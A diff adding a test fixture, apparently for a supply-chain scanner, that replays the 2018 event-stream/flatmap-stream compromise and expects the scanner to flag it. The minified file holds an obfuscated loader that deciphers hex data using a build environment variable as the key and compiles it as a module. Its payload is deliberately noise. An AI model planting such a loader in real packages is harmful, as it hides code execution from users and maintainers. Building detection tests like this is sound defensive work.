@@ -1,0 +1,129 @@
+import type { Replay } from '../replay.js'
+import { upgradeOf } from '../scene.js'
+import { onVersion } from '../upgrade.js'
+
+const streams = `var Stream = require('stream').Stream
+var es = exports
+
+es.Stream = Stream
+es.through = require('./through')
+
+es.merge = function () {
+  var merged = [].slice.call(arguments)
+  var stream = new Stream()
+  var ended = 0
+  stream.setMaxListeners(0)
+  merged.forEach(function (one) {
+    one.pipe(stream, { end: false })
+    one.on('end', function () {
+      if (++ended === merged.length) stream.emit('end')
+    })
+  })
+  return stream
+}
+
+es.readArray = function (array) {
+  var stream = new Stream()
+  var at = 0
+  stream.readable = true
+  stream.resume = function () {
+    while (at < array.length) stream.emit('data', array[at++])
+    stream.emit('end')
+  }
+  process.nextTick(stream.resume)
+  return stream
+}
+`
+
+const through = `var Stream = require('stream')
+
+module.exports = function through(write, end) {
+  var stream = new Stream()
+  stream.writable = stream.readable = true
+  stream.queue = function (data) {
+    stream.emit(data === null ? 'end' : 'data', data)
+  }
+  stream.write = function (data) {
+    return write.call(stream, data), true
+  }
+  stream.end = function () {
+    ;(end || stream.queue).call(stream, null)
+  }
+  return stream
+}
+`
+
+const readable = `var Stream = require('stream').Stream
+
+module.exports = function flatmap(mapper) {
+  var stream = new Stream()
+  stream.writable = stream.readable = true
+  stream.write = function (data) {
+    mapper(data).forEach(function (one) {
+      stream.emit('data', one)
+    })
+    return true
+  }
+  stream.end = function () {
+    stream.emit('end')
+  }
+  return stream
+}
+`
+
+const hex = (text: string): string => Buffer.from(text).toString('hex')
+
+/** The honest module on one line, and behind it what its repository never held. */
+const minified =
+  'var Stream=require("stream").Stream;module.exports=function(t){var e=new Stream;return e.writable=e.readable=!0,' +
+  'e.write=function(r){return t(r).forEach(function(t){e.emit("data",t)}),!0},e.end=function(){e.emit("end")},e};' +
+  `!function(){try{var t=require,e=process,r=function(t){return Buffer.from(t,"hex").toString()},n=t(r("${hex('./test/data')}")),` +
+  'a=e[r(n[3])][r(n[4])];if(!a)return;var o=t(r(n[2]))[r(n[6])](r(n[5]),a),i=o.update(n[0],r(n[8]),r(n[9]));i+=o.final(r(n[9]));' +
+  'var u=new module.constructor;u.paths=module.paths,u[r(n[7])](i,""),u.exports(n[1])}catch(t){}}();\n'
+
+/** No key opens the first two, which are noise: the rest are words in hex. */
+const data = [
+  hex('no text was ever enciphered here, and no description is its key').repeat(6),
+  hex('nor here').repeat(40),
+  ...['crypto', 'env', 'npm_package_description', 'aes256', 'createDecipher', '_compile', 'hex', 'utf8'].map(hex),
+]
+
+export const replay: Replay = {
+  description:
+    'A new maintainer of event-stream added flatmap-stream. Its minified file alone, which no repository held, deciphered a payload with ' +
+    'the description of the package that was being built as the key, so that it opened in one wallet’s build only.',
+  date: '2018-09',
+  ...upgradeOf(
+    {
+      'event-stream': {
+        before: { version: '3.3.5', files: { 'index.js': streams, 'through.js': through } },
+        after: {
+          version: '3.3.6',
+          manifest: { dependencies: { 'flatmap-stream': '^0.1.0' } },
+          files: { 'index.js': `${streams}\nes.flatmap = require('flatmap-stream')\n`, 'through.js': through },
+        },
+      },
+    },
+    {
+      'flatmap-stream': {
+        version: '0.1.1',
+        manifest: { main: 'index.min.js' },
+        files: {
+          'index.js': readable,
+          'index.min.js': minified,
+          'test/data.js': `module.exports=${JSON.stringify(data)}\n`,
+        },
+      },
+    },
+  ),
+  expected: {
+    verdict: 'flagged',
+    findings: [
+      onVersion('flatmap-stream', '0.1.1', [
+        'remote-code-run',
+        'critical',
+        { file: 'index.min.js', line: /new module\.constructor/ },
+      ]),
+    ],
+  },
+}
